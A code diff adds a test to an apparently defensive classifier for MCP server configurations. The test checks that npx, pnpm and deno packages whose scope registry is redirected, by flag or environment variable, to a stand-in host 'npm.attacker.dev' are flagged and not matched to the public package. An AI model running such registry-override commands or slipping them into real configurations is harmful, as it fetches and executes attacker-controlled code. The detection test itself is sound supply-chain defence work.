@@ -105,6 +105,39 @@ describe("classifyEntry: packages from another source or registry", () => {
     expect(brief(run("npx", "--registry", "https://registry.npmjs.org/", "good-mcp"))).toEqual(["jspkg", "good-mcp", null]);
     expect(brief(run("uvx", "--index-url", "https://pypi.org/simple", "gone-mcp"))).toEqual(["pypkg", "gone-mcp", null]);
   });
+
+  // npm fetches a scope's packages from that scope's registry (`@acme:registry`), set as an option or in the env, and
+  // deno reads NPM_CONFIG_REGISTRY: such a package of a listed name was read as the public one and took its PASS
+  it("does not tie a scoped package fetched from its scope's registry, nor deno's npm: package from another registry", () => {
+    for (const argv of [
+      ["npx", "-y", "--@acme:registry=https://npm.attacker.dev", "@acme/mcp"],
+      ["npx", "-y", "--@acme:registry", "https://npm.attacker.dev", "@acme/mcp@1.0.0"],
+      ["npx", "--registry", "https://registry.npmjs.org", "--@ACME:registry=https://npm.attacker.dev", "@acme/mcp"],
+      ["pnpm", "--@acme:registry", "https://npm.attacker.dev", "dlx", "@acme/mcp"],
+    ]) {
+      const id = run(argv[0], ...argv.slice(1));
+      expect(id, argv.join(" ")).toMatchObject({ kind: "other", identifier: "@acme/mcp", unresolvable: { code: "not_a_registry_artifact", summary: expect.stringMatching(/attacker\.dev/) } });
+    }
+    const viaEnv = parseConfig(
+      JSON.stringify({
+        mcpServers: {
+          scoped: { command: "npx", args: ["-y", "@acme/mcp"], env: { "npm_config_@acme:registry": "https://npm.attacker.dev" } },
+          deno: { command: "deno", args: ["run", "-A", "npm:@acme/mcp"], env: { NPM_CONFIG_REGISTRY: "https://npm.attacker.dev" } },
+          denoScoped: { command: "deno", args: ["run", "npm:@acme/mcp@1.0.0"], env: { "NPM_CONFIG_@acme:registry": "https://npm.attacker.dev" } },
+          // another scope's registry changes nothing for this package, nor the public registry named explicitly
+          otherScope: { command: "npx", args: ["-y", "--@other:registry=https://npm.attacker.dev", "@acme/mcp"], env: { "npm_config_@other:registry": "https://npm.attacker.dev" } },
+          denoPublic: { command: "deno", args: ["run", "npm:@acme/mcp"], env: { NPM_CONFIG_REGISTRY: "https://registry.npmjs.org/" } },
+        },
+      }),
+    ).entries.map(classifyEntry);
+    expect(viaEnv.map((id) => [id.kind, id.unresolvable?.code ?? null])).toEqual([
+      ["other", "not_a_registry_artifact"],
+      ["other", "not_a_registry_artifact"],
+      ["other", "not_a_registry_artifact"],
+      ["jspkg", null],
+      ["jspkg", null],
+    ]);
+  });
 });
 
 describe("classifyEntry: wrappers", () => {
